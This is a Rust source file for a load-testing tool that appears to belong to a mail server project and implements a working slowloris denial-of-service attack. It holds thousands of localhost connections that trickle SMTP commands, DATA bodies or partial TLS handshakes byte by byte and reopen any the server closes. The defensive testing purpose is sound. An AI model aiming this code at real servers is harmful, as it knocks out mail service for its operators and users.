//! ringmta-slowloris: the attacker of `tuning/slowloris.py`. Holds many
//! connections that each trickle one byte per interval, from many source
//! addresses, and reopens whichever the server closes.
//!
//! A third of the connections trickle a command line, a third a DATA body
//! (after EHLO, MAIL, RCPT and a 354), a third a TLS ClientHello on the
//! implicit-TLS port. One thread, non-blocking sockets (mio) and a timer
//! heap: the attack must cost the machine it shares with the server as
//! little as it can, since a real one runs elsewhere (the Python attacker
//! it replaces took about a quarter of a core for 10,000 connections).
//!
//! Prints `{"ready":true,"open":N}` once the opening burst is over, and its
//! counters as one JSON line when it gets SIGTERM or SIGINT.

use std::cmp::Reverse;
use std::collections::BinaryHeap;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use clap::Parser;
use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use serde::Serialize;

#[derive(Parser)]
#[command(
    name = "ringmta-slowloris",
    about = "Connections that trickle bytes (tuning/slowloris.py)"
)]
struct Args {
    /// Connections to hold open.
    #[arg(long, default_value_t = 10_000)]
    conns: usize,
    /// Seconds between two bytes of one connection (each wait varied ±20 %).
    #[arg(long, default_value_t = 5.0)]
    interval: f64,
    /// Connections per source address (127.1.x.y).
    #[arg(long, default_value_t = 50)]
    per_address: usize,
    /// The plain SMTP port (command and DATA tricklers).
    #[arg(long)]
    smtp_port: u16,
    /// The implicit-TLS port (ClientHello tricklers).
    #[arg(long)]
    smtps_port: u16,
}

#[derive(Default, Serialize)]
struct Stats {
    open: usize,
    opened: u64,
    closed_by_server: u64,
    connect_failed: u64,
    refused_421: u64,
    bytes_sent: u64,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Command,
    Data,
    Tls,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Phase {
    /// Waiting to (re)connect.
    Idle,
    Connecting,
    /// Waiting for the greeting line.
    Banner,
    /// DATA kind: the pipelined commands sent, waiting for 354.
    Replies,
    Trickle,
}

struct Conn {
    kind: Kind,
    src: IpAddr,
    stream: Option<TcpStream>,
    phase: Phase,
    /// Which timer is current: older entries in the heap are ignored.
    generation: u64,
    sent: usize,
    /// Reply bytes since the last line end (Banner and Replies).
    line: Vec<u8>,
}

/// What a connection's input led to.
#[derive(PartialEq, Eq)]
enum Input {
    Nothing,
    /// Greeting (or 354) seen: the trickle starts now.
    Trickle,
    /// The server closed it, or refused what it must accept.
    Closed,
}

const DATA_COMMANDS: &[u8] =
    b"EHLO slow.test\r\nMAIL FROM:<a@slow.test>\r\nRCPT TO:<victim@localhost>\r\nDATA\r\n";

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let stop = Arc::new(AtomicBool::new(false));
    for sig in [signal_hook::consts::SIGTERM, signal_hook::consts::SIGINT] {
        signal_hook::flag::register(sig, stop.clone()).context("signal handler")?;
    }
    let payloads = Payloads::new();
    let mut poll = Poll::new().context("epoll")?;
    let mut events = Events::with_capacity(1024);
    let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
    let mut stats = Stats::default();
    let mut timers: BinaryHeap<Reverse<(Instant, usize, u64)>> = BinaryHeap::new();
    let interval = Duration::from_secs_f64(args.interval);
    let kinds = [Kind::Command, Kind::Data, Kind::Tls];
    let mut conns: Vec<Conn> = (0..args.conns)
        .map(|i| {
            let a = i / args.per_address.max(1);
            Conn {
                kind: kinds[i % 3],
                src: IpAddr::V4(Ipv4Addr::new(127, 1, (a / 250) as u8, (a % 250 + 1) as u8)),
                stream: None,
                phase: Phase::Idle,
                generation: 0,
                sent: 0,
                line: Vec::new(),
            }
        })
        .collect();
    // The opening burst: 500 connections every 250 ms.
    let start = Instant::now();
    for (i, c) in conns.iter_mut().enumerate() {
        let at = start + Duration::from_millis(250 * (i / 500) as u64);
        timers.push(Reverse((at, i, c.generation)));
    }
    let burst_end = start + Duration::from_millis(250 * (args.conns / 500 + 1) as u64);
    let mut ready = false;
    let ports = (args.smtp_port, args.smtps_port);

    while !stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        if !ready
            && ((stats.opened + stats.connect_failed) as usize >= args.conns
                || now > burst_end + Duration::from_secs(60))
        {
            ready = true;
            println!("{}", serde_json::json!({"ready": true, "open": stats.open}));
        }
        let wait = timers
            .peek()
            .map(|Reverse((at, _, _))| at.saturating_duration_since(now))
            .unwrap_or(Duration::from_millis(200))
            .min(Duration::from_millis(200));
        match poll.poll(&mut events, Some(wait)) {
            Ok(()) => {}
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(e) => return Err(e).context("poll"),
        }
        for ev in events.iter() {
            let i = ev.token().0;
            let c = &mut conns[i];
            let read = match c.phase {
                Phase::Connecting => {
                    match c.stream.as_ref().map(|s| (s.take_error(), s.peer_addr())) {
                        Some((Ok(None), Ok(_))) => {
                            stats.open += 1;
                            stats.opened += 1;
                            if c.kind == Kind::Tls {
                                c.phase = Phase::Trickle;
                                Input::Trickle
                            } else {
                                c.phase = Phase::Banner;
                                if ev.is_readable() {
                                    on_readable(c, &mut stats)
                                } else {
                                    Input::Nothing
                                }
                            }
                        }
                        Some((_, Err(e))) if e.kind() == ErrorKind::NotConnected => Input::Nothing,
                        _ => {
                            stats.connect_failed += 1;
                            c.stream = None;
                            c.phase = Phase::Idle;
                            let at = Instant::now() + backoff(&mut rng);
                            c.generation += 1;
                            timers.push(Reverse((at, i, c.generation)));
                            Input::Nothing
                        }
                    }
                }
                Phase::Idle => Input::Nothing,
                _ if ev.is_readable() => on_readable(c, &mut stats),
                _ => Input::Nothing,
            };
            match read {
                Input::Nothing => {}
                Input::Trickle => schedule(&mut timers, i, c, Instant::now()),
                Input::Closed => hang_up(i, c, &mut stats, &mut timers, &mut rng, &stop),
            }
        }
        let now = Instant::now();
        while let Some(&Reverse((at, i, generation))) = timers.peek() {
            if at > now {
                break;
            }
            timers.pop();
            let c = &mut conns[i];
            if generation != c.generation {
                continue;
            }
            let phase = c.phase;
            match phase {
                Phase::Idle if connect(&poll, i, c, ports).is_err() => {
                    stats.connect_failed += 1;
                    c.generation += 1;
                    timers.push(Reverse((now + backoff(&mut rng), i, c.generation)));
                }
                Phase::Trickle => {
                    let payload = payloads.of(c.kind);
                    let byte = payload[c.sent % payload.len()];
                    let ok = c
                        .stream
                        .as_mut()
                        .is_some_and(|s| matches!(s.write(&[byte]), Ok(1)));
                    if ok {
                        c.sent += 1;
                        stats.bytes_sent += 1;
                        let jitter = 0.8 + 0.4 * rng.unit();
                        schedule(&mut timers, i, c, now + interval.mul_f64(jitter));
                    } else {
                        hang_up(i, c, &mut stats, &mut timers, &mut rng, &stop);
                    }
                }
                _ => {}
            }
        }
    }
    stats.open = conns
        .iter()
        .filter(|c| c.phase != Phase::Idle && c.phase != Phase::Connecting)
        .count();
    println!("{}", serde_json::to_string(&stats)?);
    Ok(())
}

/// What each kind trickles, byte after byte (repeated if it ever ends).
struct Payloads {
    command: Vec<u8>,
    data: Vec<u8>,
    tls: Vec<u8>,
}

impl Payloads {
    fn new() -> Self {
        let mut command = b"EHLO ".to_vec();
        command.extend(std::iter::repeat_n(b's', 400));
        command.extend_from_slice(b"\r\n");
        let mut data = b"Subject: slow\r\n\r\n".to_vec();
        data.extend(std::iter::repeat_n(b'x', 100_000));
        // A TLS 1.2 ClientHello record header, then never enough of it.
        let mut tls = vec![
            0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
        ];
        let mut r = XorShift(7);
        tls.extend((0..500).map(|_| r.next() as u8));
        Self { command, data, tls }
    }

    fn of(&self, kind: Kind) -> &[u8] {
        match kind {
            Kind::Command => &self.command,
            Kind::Data => &self.data,
            Kind::Tls => &self.tls,
        }
    }
}

fn connect(poll: &Poll, i: usize, c: &mut Conn, (smtp, smtps): (u16, u16)) -> std::io::Result<()> {
    let port = if c.kind == Kind::Tls { smtps } else { smtp };
    let target = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), port);
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
    socket.set_nonblocking(true)?;
    socket.bind(&SocketAddr::new(c.src, 0).into())?;
    match socket.connect(&target.into()) {
        Ok(()) => {}
        Err(e) if e.raw_os_error() == Some(libc_einprogress()) => {}
        Err(e) => return Err(e),
    }
    let mut stream = TcpStream::from_std(socket.into());
    poll.registry().register(
        &mut stream,
        Token(i),
        Interest::READABLE | Interest::WRITABLE,
    )?;
    c.stream = Some(stream);
    c.phase = Phase::Connecting;
    c.sent = 0;
    c.line.clear();
    Ok(())
}

/// EINPROGRESS on Linux.
fn libc_einprogress() -> i32 {
    115
}

/// Reads what the server sent.
fn on_readable(c: &mut Conn, stats: &mut Stats) -> Input {
    let mut buf = [0u8; 4096];
    let mut outcome = Input::Nothing;
    loop {
        let Some(stream) = c.stream.as_mut() else {
            return Input::Closed;
        };
        let n = match stream.read(&mut buf) {
            Ok(0) => return Input::Closed,
            Ok(n) => n,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return outcome,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => return Input::Closed,
        };
        let got = &buf[..n];
        match c.phase {
            Phase::Banner | Phase::Replies => {
                c.line.extend_from_slice(got);
                while let Some(end) = c.line.windows(2).position(|w| w == b"\r\n") {
                    let line: Vec<u8> = c.line.drain(..end + 2).collect();
                    if line.starts_with(b"421") {
                        stats.refused_421 += 1;
                        return Input::Closed;
                    }
                    let trickle = if c.phase == Phase::Banner {
                        if c.kind == Kind::Data {
                            if !matches!(stream.write(DATA_COMMANDS), Ok(n) if n == DATA_COMMANDS.len())
                            {
                                return Input::Closed;
                            }
                            c.phase = Phase::Replies;
                            false
                        } else {
                            true
                        }
                    } else if line.starts_with(b"354") {
                        true
                    } else if matches!(line.first(), Some(b'4' | b'5')) {
                        return Input::Closed;
                    } else {
                        false
                    };
                    if trickle {
                        c.phase = Phase::Trickle;
                        c.line.clear();
                        c.sent = 0;
                        outcome = Input::Trickle;
                        break;
                    }
                }
                if c.line.len() > 8192 {
                    return Input::Closed;
                }
            }
            _ => {
                if got.starts_with(b"421") {
                    stats.refused_421 += 1;
                }
            }
        }
    }
}

fn schedule(
    timers: &mut BinaryHeap<Reverse<(Instant, usize, u64)>>,
    i: usize,
    c: &mut Conn,
    at: Instant,
) {
    c.generation += 1;
    timers.push(Reverse((at, i, c.generation)));
}

fn hang_up(
    i: usize,
    c: &mut Conn,
    stats: &mut Stats,
    timers: &mut BinaryHeap<Reverse<(Instant, usize, u64)>>,
    rng: &mut XorShift,
    stop: &AtomicBool,
) {
    if c.stream.take().is_some() && c.phase != Phase::Connecting {
        stats.open = stats.open.saturating_sub(1);
        if !stop.load(Ordering::Relaxed) {
            stats.closed_by_server += 1;
        }
    }
    c.phase = Phase::Idle;
    c.generation += 1;
    timers.push(Reverse((Instant::now() + backoff(rng), i, c.generation)));
}

fn backoff(rng: &mut XorShift) -> Duration {
    Duration::from_secs_f64(0.5 + 1.5 * rng.unit())
}

struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
}
